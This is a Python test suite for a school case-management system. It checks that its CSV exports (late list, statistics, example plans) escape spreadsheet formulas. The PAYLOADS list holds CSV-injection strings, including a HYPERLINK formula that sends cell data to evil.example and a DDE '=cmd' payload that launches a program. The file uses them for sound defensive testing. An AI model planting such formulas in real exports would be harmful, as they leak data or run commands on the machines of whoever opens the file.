"""No CSV the system writes carries a formula (domain.csv_cells): the rule on its own, every
producer going through it, and formula payloads put where a person can type them (a school's
name, a professional's name) read back from the late list's and the statistics' CSV over
HTTP, and from the example plans file."""

from __future__ import annotations

import ast
import csv
import io
from datetime import date
from pathlib import Path

from sqlmodel import Session

from domain.case import AdviceSource
from domain.csv_cells import FORMULA_STARTS, PLAIN_NUMBER, SafeDictWriter, csv_chunks, safe_cell
from services.plan_example import example_plans
from services.plan_file import validate_file
from store import tables as t
from store.db import engine_for
from tests.conftest import free_port, settings_for
from tests.http import serve_app
from tests.test_worklist import TODAY, adv, assessment, d, ms

ROOT = Path(__file__).resolve().parent.parent

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def live(cell: str) -> bool:
    """Whether a spreadsheet would take the cell as a formula."""
    return cell[:1] in FORMULA_STARTS and PLAIN_NUMBER.fullmatch(cell) is None


def test_the_rule():
    for p in PAYLOADS:
        assert safe_cell(p) == "'" + p
    # numbers stay numbers, text that is a plain number too; other text is left alone
    assert [safe_cell(v) for v in (-3, 2.5, "-3", "-0.25", "12", None, "Oak Primary",
                                   "O'Brien", "a=b")] == \
        [-3, 2.5, "-3", "-0.25", "12", "", "Oak Primary", "O'Brien", "a=b"]
    assert safe_cell("-") == "'-" and safe_cell("-A1") == "'-A1" and safe_cell("-1e5") == "'-1e5"
    buf = io.StringIO()
    w = SafeDictWriter(buf, fieldnames=["a", "b"])
    w.writeheader()
    w.writerows([{"a": p, "b": -7} for p in PAYLOADS])
    rows = list(csv.DictReader(io.StringIO(buf.getvalue())))
    assert [r["a"] for r in rows] == ["'" + p for p in PAYLOADS]
    assert {r["b"] for r in rows} == {"-7"}
    text = "".join(csv_chunks(["a"], [{"a": p, "extra": "=1"} for p in PAYLOADS] * 200,
                              chunk=100))
    assert [r["a"] for r in csv.DictReader(io.StringIO(text))] == ["'" + p for p in PAYLOADS] * 200


def test_every_csv_writer_is_the_safe_one():
    """No module of the product builds a csv writer of its own: each goes through
    domain.csv_cells (so a new export cannot forget the rule)."""
    found = []
    for package in ("statutory", "domain", "config", "workflows", "store", "services",
                    "activities", "worker", "api", "cli"):
        for path in (ROOT / package).rglob("*.py"):
            if path == ROOT / "domain" / "csv_cells.py":
                continue
            for node in ast.walk(ast.parse(path.read_text())):
                if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter") \
                        and isinstance(node.value, ast.Name) and node.value.id == "csv":
                    found.append(f"{path.relative_to(ROOT)}:{node.lineno}")
                if isinstance(node, ast.ImportFrom) and node.module == "csv" and any(
                        a.name in ("writer", "DictWriter") for a in node.names):
                    found.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert found == []


def test_the_example_plans_file_still_imports():
    text = example_plans(date(2026, 11, 23))
    report = validate_file(io.BytesIO(text.encode()), today=date(2026, 11, 23))
    assert not report.errors and len(report.rows) == 13


async def test_formulas_typed_into_the_system_come_out_as_text(sqlite_url):
    """A school and a professional named with formulas: the late list's CSV and the
    statistics' CSV (grouped by setting) have them as text, and no cell is live."""
    with Session(engine_for(sqlite_url)) as s:
        s.add(t.Service(id="svc-x", name="@SUM(A1:A2)", agency="health"))
        s.flush()
        s.add(t.Contact(id="ct-x", service_id="svc-x", name="=cmd|' /C calc'!A0",
                        email="x@x.example"))
        s.commit()
    for n, payload in enumerate(PAYLOADS):
        assessment(sqlite_url, f"EHC-F{n}", school=payload, milestones=[
            ms("decision_due", "assessment.decision_due", d(-10 - n),
               done=d(-5) if n % 2 else None)],
            advice=[adv("health", AdviceSource.HEALTH, d(-1), service_id="svc-x",
                        contact_id="ct-x")])
    settings = settings_for(sqlite_url, "csvcells", temporal_address=f"127.0.0.1:{free_port()}")
    async with serve_app(settings, None, role="manager") as http:
        r = await http.get("/api/worklist/late.csv", params={"today": TODAY.isoformat()})
        assert r.status_code == 200, r.text
        rows = list(csv.DictReader(io.StringIO(r.text)))
        assert {row["school"] for row in rows} == {"'" + p for p in PAYLOADS}
        assert "'=cmd|' /C calc'!A0, @SUM(A1:A2)" in {row["owed_by"] for row in rows}
        assert {row["contact_name"] for row in rows} >= {"'=cmd|' /C calc'!A0"}
        assert all(row["days_overdue"].isdigit() for row in rows)
        for row in rows:
            assert not any(live(cell) for cell in row.values()), row

        period = {"from": d(-200).isoformat(), "to": TODAY.isoformat()}
        for url in ("/api/statistics/timeliness/advice", "/api/statistics/review-outcomes"):
            r = await http.get(url, params={**period, "group_by": "setting", "format": "csv"})
            assert r.status_code == 200, r.text
            table = list(csv.DictReader(io.StringIO(r.text)))
            assert table, url
            for row in table:
                assert not any(live(cell) for cell in row.values()), row
            if url.endswith("advice"):  # every advice item was asked: grouped by school
                assert {"'" + p for p in PAYLOADS} <= {row["label"] for row in table}
